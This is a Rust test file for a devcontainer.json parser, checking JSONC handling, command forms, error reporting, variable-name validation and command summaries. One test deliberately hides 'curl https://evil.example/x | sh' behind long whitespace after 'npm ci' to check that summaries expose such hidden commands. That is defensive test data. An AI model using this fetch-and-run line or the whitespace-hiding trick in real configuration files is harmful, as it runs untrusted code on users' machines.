//! Reading `devcontainer.json` ([`parse`]), its commands and their summaries; the
//! variables and the environment are in `tests/substitution.rs`, the extensions in
//! `tests/customizations.rs`.

use super::*;

mod budget;
mod customizations;
mod substitution;

fn shell(text: &str) -> Command {
    Command::Shell(text.to_owned())
}

fn exec(argv: &[&str]) -> Command {
    Command::Exec(argv.iter().map(|a| (*a).to_owned()).collect())
}

#[test]
fn jsonc_comments_and_trailing_commas_are_read() {
    let config = parse(
        r#"// the team's container
        {
            /* a block
               comment */
            "name": "web", // trailing comment
            "containerEnv": { "A": "1", },
            "postCreateCommand": ["npm", "ci",],
        }
        // after
        "#,
    )
    .expect("JSONC");
    assert_eq!(config.name.as_deref(), Some("web"));
    assert_eq!(config.container_env, vec![("A".into(), "1".into())]);
    assert_eq!(config.steps, vec![(Step::PostCreate, exec(&["npm", "ci"]))]);
    assert!(config.problems.is_empty() && config.not_applied.is_empty());
}

#[test]
fn each_command_form_is_read_and_steps_come_in_spec_order() {
    let config = parse(
        r#"{
            "postStartCommand": "echo start",
            "postCreateCommand": { "deps": "npm ci", "db": ["make", "db"] },
            "updateContentCommand": ["git", "submodule", "update"],
            "onCreateCommand": "echo create"
        }"#,
    )
    .expect("JSON");
    let parallel = Command::Parallel(vec![
        ("deps".into(), shell("npm ci")),
        ("db".into(), exec(&["make", "db"])),
    ]);
    assert_eq!(
        config.steps,
        vec![
            (Step::OnCreate, shell("echo create")),
            (Step::UpdateContent, exec(&["git", "submodule", "update"])),
            (Step::PostCreate, parallel),
            (Step::PostStart, shell("echo start")),
        ]
    );
    assert!(config.wants_anything());
    let keys: Vec<_> = Step::ALL.iter().map(|s| s.key()).collect();
    assert_eq!(
        keys,
        [
            "onCreateCommand",
            "updateContentCommand",
            "postCreateCommand",
            "postStartCommand"
        ]
    );
    let once: Vec<_> = Step::ALL.iter().map(|s| s.once_per_checkout()).collect();
    assert_eq!(once, [true, true, true, false]);
}

#[test]
fn empty_commands_are_not_present() {
    let config = parse(
        r#"{
            "onCreateCommand": "",
            "updateContentCommand": "  \n ",
            "postCreateCommand": [],
            "postStartCommand": {},
        }"#,
    )
    .expect("JSON");
    assert!(config.steps.is_empty());
    assert!(config.problems.is_empty(), "{:?}", config.problems);
    assert!(!config.wants_anything());
    // An object whose members are all empty is not present; empty members are dropped.
    let config = parse(r#"{"postStartCommand": {"a": "", "b": [], "c": "run"}}"#).expect("JSON");
    assert_eq!(
        config.steps,
        vec![(
            Step::PostStart,
            Command::Parallel(vec![("c".into(), shell("run"))])
        )]
    );
    let config = parse(r#"{"postStartCommand": {"a": "", "b": null}, "postCreateCommand": null}"#)
        .expect("JSON");
    assert!(config.steps.is_empty());
}

#[test]
fn wrong_shapes_become_problems_naming_the_property() {
    let config = parse(
        r#"{
            "name": 3,
            "onCreateCommand": 42,
            "updateContentCommand": ["ok", 1],
            "postCreateCommand": { "good": "make", "bad": { "x": 1 }, "worse": true },
            "postStartCommand": ["", "x"],
            "containerEnv": { "A=B": "x", "": "y", "OK": "z", "ARR": [1], "NUL": "a\u0000b" },
            "remoteEnv": "PATH=/bin",
        }"#,
    )
    .expect("JSON");
    assert_eq!(
        config.problems,
        vec![
            "name: expected a string",
            "onCreateCommand: expected a string, an array of strings or an object of them",
            "updateContentCommand: expected a string, an array of strings or an object of them",
            "postCreateCommand.bad: expected a string or an array of strings",
            "postCreateCommand.worse: expected a string or an array of strings",
            "postStartCommand: the program (the array's first string) is empty",
            "containerEnv.A=B: not a valid variable name",
            "containerEnv.\"\": not a valid variable name",
            "containerEnv.ARR: expected a string",
            "containerEnv.NUL: contains a NUL character",
            "remoteEnv: expected an object of strings",
        ]
    );
    // What was right is kept.
    assert_eq!(config.name, None);
    assert_eq!(
        config.steps,
        vec![(
            Step::PostCreate,
            Command::Parallel(vec![("good".into(), shell("make"))])
        )]
    );
    assert_eq!(config.container_env, vec![("OK".into(), "z".into())]);
    assert!(config.remote_env.is_empty());
    // containerEnv cannot remove: null there is a problem too.
    let config = parse(r#"{"containerEnv": {"A": null}}"#).expect("JSON");
    assert_eq!(config.problems, vec!["containerEnv.A: expected a string"]);
}

#[test]
fn numbers_and_booleans_as_env_values_keep_their_json_text() {
    let config =
        parse(r#"{"containerEnv": {"N": 1.50, "E": 1e3, "T": true, "F": false}}"#).expect("JSON");
    let values: Vec<_> = config
        .container_env
        .iter()
        .map(|(_, v)| v.as_str())
        .collect();
    assert_eq!(values, ["1.50", "1e3", "true", "false"]);
}

#[test]
fn not_applied_lists_other_properties_in_file_order() {
    let config = parse(
        r#"{
            "$schema": "https://example.com/schema.json",
            "image": "mcr.microsoft.com/devcontainers/base",
            "initializeCommand": "docker login",
            "name": "x",
            "features": {},
            "postAttachCommand": "echo hi",
            "waitFor": "postCreateCommand",
            "forwardPorts": [3000],
            "customizations": { "vscode": { "settings": {}, "extensions": [] }, "codespaces": {} },
            "containerEnv": {},
            "build": { "dockerfile": "Dockerfile" }
        }"#,
    )
    .expect("JSON");
    assert_eq!(
        config.not_applied,
        vec![
            "image",
            "initializeCommand",
            "features",
            "postAttachCommand",
            "waitFor",
            "forwardPorts",
            "customizations.vscode.settings",
            "customizations.codespaces",
            "build"
        ]
    );
    assert!(config.problems.is_empty());
    assert!(!config.wants_anything());
}

#[test]
fn long_lists_and_odd_keys_are_bounded() {
    let keys: Vec<String> = (0..100).map(|i| format!("\"k{i}\": 1")).collect();
    let config = parse(&format!("{{{}}}", keys.join(","))).expect("JSON");
    assert_eq!(config.not_applied.len(), 64);
    assert_eq!(config.not_applied[62], "k62");
    assert_eq!(config.not_applied[63], "… 37 more properties");
    let config = parse(r#"{"a\nb\u202e": 1, "": 2}"#).expect("JSON");
    assert_eq!(config.not_applied, vec!["a⏎b\u{FFFD}", "\"\""]);
}

#[test]
fn remote_env_null_removes_and_env_names_are_deduplicated() {
    let config = parse(
        r#"{
            "containerEnv": { "B": "1", "A": "2" },
            "remoteEnv": { "A": "3", "SECRET": null, "C": "4" }
        }"#,
    )
    .expect("JSON");
    assert_eq!(
        config.remote_env,
        vec![
            ("A".into(), Some("3".into())),
            ("SECRET".into(), None),
            ("C".into(), Some("4".into())),
        ]
    );
    assert_eq!(config.env_names(), vec!["B", "A", "SECRET", "C"]);
    assert!(config.wants_anything());
}

#[test]
fn a_byte_order_mark_is_skipped() {
    let config = parse("\u{FEFF}{\"name\": \"x\"}").expect("JSON after a BOM");
    assert_eq!(config.name.as_deref(), Some("x"));
}

#[test]
fn a_repeated_key_keeps_its_last_value() {
    let config = parse(r#"{"postStartCommand": "one", "postStartCommand": "two"}"#).expect("JSON");
    assert_eq!(config.steps, vec![(Step::PostStart, shell("two"))]);
}

#[test]
fn parse_errors_carry_their_position() {
    let err = parse("{\n  \"name\": \"x\"\n  \"image\": 1\n}").expect_err("missing comma");
    // Where the comma is missing: right after the value before it.
    assert_eq!((err.line, err.column), (2, 14), "{err}");
    assert_eq!(err.to_string(), "line 2, column 14: Expected comma");
    let err = parse("{\n  'single': 1\n}").expect_err("not JSON5");
    assert_eq!(err.line, 2, "{err}");
    let err = parse("{ \"a\": 1 ").expect_err("unterminated");
    assert_eq!(err.line, 1, "{err}");
    let err = parse("{} {}").expect_err("two values");
    assert_eq!((err.line, err.column), (1, 4), "{err}");
}

#[test]
fn a_top_level_that_is_not_an_object_is_an_error_at_its_start() {
    let err = parse("// comment\n/* more */\n  [1, 2]").expect_err("array");
    assert_eq!(
        err,
        ParseError {
            line: 3,
            column: 3,
            message: "the top level is not an object".into()
        }
    );
    assert_eq!(
        err.to_string(),
        "line 3, column 3: the top level is not an object"
    );
    let err = parse("  // nothing\n").expect_err("empty");
    assert_eq!((err.line, err.column), (2, 1), "{err}");
    assert!(err.message.contains("expected an object"), "{err}");
    assert!(parse("\"text\"").is_err() && parse("null").is_err() && parse("").is_err());
}

#[test]
fn summary_is_one_bounded_line() {
    assert_eq!(shell("npm ci").summary(), "npm ci");
    assert_eq!(exec(&["make", "a b"]).summary(), "make a b");
    let parallel = Command::Parallel(vec![
        ("deps".into(), shell("npm ci")),
        ("db".into(), exec(&["make", "db"])),
    ]);
    assert_eq!(parallel.summary(), "deps: npm ci; db: make db");
    assert_eq!(
        shell("a\nb\tc\u{7}d\u{202e}e").summary(),
        "a⏎b c\u{FFFD}d\u{FFFD}e"
    );
    let long = shell(&"é".repeat(200)).summary();
    assert_eq!(long.chars().count(), 120);
    assert!(long.ends_with("é…"), "{long}");
    assert_eq!(shell(&"x".repeat(120)).summary(), "x".repeat(120));
    assert_eq!(
        shell(&"x".repeat(121)).summary(),
        format!("{}…", "x".repeat(119))
    );
    let many = Command::Parallel((0..1000).map(|i| (format!("n{i}"), shell("x"))).collect());
    assert_eq!(many.summary().chars().count(), 120);
    assert!(many.summary_cut().1);
    assert_eq!(shell("npm ci").summary_cut(), ("npm ci".into(), false));
}

#[test]
fn white_space_runs_show_as_one_so_nothing_hides_past_the_cut() {
    let hidden = format!(
        "npm ci{}&& curl https://evil.example/x | sh",
        " ".repeat(150)
    );
    assert_eq!(
        shell(&hidden).summary(),
        "npm ci && curl https://evil.example/x | sh"
    );
    // Every kind of white space, and characters drawn blank, collapse too.
    let blanks = "\t\u{a0}\u{2003}\u{3000}\u{200b}\u{2800}\u{3164}\u{feff}\u{0b}\u{85}";
    let odd = format!("npm ci{}{blanks}{blanks}&& curl x", blanks.repeat(30));
    assert_eq!(shell(&odd).summary(), "npm ci && curl x");
    // A run with a line break is one ⏎.
    assert_eq!(shell("a \n\r\n  b").summary(), "a⏎b");
    // In argv and named commands too, however many members are blank.
    let argv = exec(&["sh", &" ".repeat(500), "-c", "curl x"]);
    assert_eq!(argv.summary(), "sh -c curl x");
    let parallel = Command::Parallel(vec![
        ("a".into(), shell(&format!("npm ci{}", " ".repeat(600)))),
        ("b".into(), shell("curl x")),
    ]);
    assert_eq!(
        parallel.summary_cut(),
        ("a: npm ci ; b: curl x".into(), false)
    );
    // A long text is still cut, and says so.
    let (text, cut) = shell(&format!("a {}", "b ".repeat(200))).summary_cut();
    assert!(
        cut && text.ends_with('…') && text.chars().count() == 120,
        "{text}"
    );
}

#[test]
fn valid_names() {
    for ok in ["A", "PATH", "lower_case", "with.dot", "ü", &"N".repeat(256)] {
        assert!(valid_name(ok), "{ok:?}");
    }
    for bad in [
        "",
        "A=B",
        "A\0",
        "A\nB",
        "\t",
        "A\u{202e}B",
        "\u{2066}",
        &"N".repeat(257),
    ] {
        assert!(!valid_name(bad), "{bad:?}");
    }
}
